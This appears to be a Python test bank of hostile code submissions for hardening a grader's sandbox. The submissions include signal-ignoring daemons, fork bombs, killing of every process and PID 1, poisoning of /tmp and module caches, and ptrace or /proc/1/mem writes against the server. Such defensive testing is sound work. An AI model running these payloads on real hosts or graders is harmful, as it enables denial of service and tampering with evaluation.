"""Code that stays when its submission is over, or ends what is not its own."""

from __future__ import annotations

from hostile.channel import ENDED
from hostile.submissions import Hostile, attack

DAEMON = """
import os, signal, time
def daemon(work):
    '''Run work in a process that has left its family.'''
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                try: signal.signal(number, signal.SIG_IGN)
                except OSError: pass
            os.write(writing, b"begun")
            while True:
                try: work()
                except BaseException: pass
        os._exit(0)
    print("daemon", os.read(reading, 5))
"""

BANK = [
    Hostile(
        "a daemon",
        "A process that has left its family, ignores signals, and holds the connection.",
        attack(
            DAEMON
            + """
daemon(lambda: time.sleep(1000))
print("attacked")
"""
        ),
        seen=("attacked", "daemon b'begun'"),
    ),
    Hostile(
        "a daemon that waits for the next",
        "A process that spoils the scratch folder, and the memory of whoever comes next.",
        attack(
            DAEMON
            + """
def spoil():
    for folder in ("/tmp", "/dev/shm"):
        open(f"{folder}/torch.py", "w").write("raise SystemExit")
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid()):
            os.kill(int(name), signal.SIGSTOP)
    time.sleep(0.01)
print("attacked")
""",
            last=["daemon(spoil)"],
        ),
        cell_seconds=2.0,  # it may stop the process of its own submission
    ),
    Hostile(
        "a family",
        "Children, grandchildren, zombies and pools.",
        attack(
            """
            import multiprocessing, os, subprocess, sys, time
            for _ in range(5):
                if os.fork() == 0:
                    os.fork()
                    time.sleep(1000)
                    os._exit(0)
            for _ in range(5):
                if os.fork() == 0: os._exit(0)
            print("attacked")
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"])
            """,
            last=["pool = multiprocessing.Pool(2)"],
        ),
    ),
    Hostile(
        "every process",
        "Signals for the server, for its parent, for the grader, and for all there are.",
        attack(
            """
            import os, signal
            def send(process):
                for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV,
                               signal.SIGKILL, *range(34, 65)):
                    try: os.kill(process, number)
                    except OSError: pass
            for process in (1, os.getppid(), GRADER, *range(2, 400)):
                if process != os.getpid(): send(process)
            print("attacked")
            """,
            head_dim="def head_dim(*_):\n    os.kill(-1, signal.SIGKILL)",
            attend="def attend(*_):\n    os.killpg(0, signal.SIGKILL)",
        ),
        seen=("attacked", ENDED),
        findings=("stopped",),
    ),
    Hostile(
        "the server",
        "The process that all submissions come from, stopped, slowed down and changed.",
        attack(
            """
            import ctypes, os, resource, signal
            libc = ctypes.CDLL(None, use_errno=True)
            def refused(result):
                assert result == -1, "REACHED"
            look(
                lambda: os.kill(1, signal.SIGSTOP),
                lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (1, 1)),
                lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
                lambda: os.sched_setaffinity(1, {0}),
                lambda: refused(libc.ptrace(16, 1, 0, 0)),
                lambda: refused(libc.process_vm_writev(1, 0, 0, 0, 0, 0)),
                lambda: refused(libc.syscall(438, os.pidfd_open(1), 3, 0)),
                lambda: open("/proc/1/mem", "r+b"),
                lambda: os.open("/proc/1/fd/3", os.O_RDWR),
            )
            """
        ),
    ),
    Hostile(
        "two of itself",
        "A process that forks while a test calls it, so that both answer.",
        attack(
            "import os\nprint('attacked')",
            head_dim="def head_dim(d_model, num_heads):\n    os.fork()\n    return 1",
            attend="def attend(query, key, value):\n    os.fork()\n    return value",
        ),
    ),
    Hostile(
        "what is shared by forks",
        "Modules, caches and collectors of the process that the next one is a copy of.",
        attack(
            """
            import builtins, gc, linecache, sys, torch
            torch.left = builtins.left = True
            gc.unfreeze(); gc.collect()
            linecache.clearcache()
            for name in [name for name in sys.modules if name.startswith(("torch.", "mha_course"))]:
                sys.modules[name] = None
            print("attacked")
            """
        ),
    ),
]
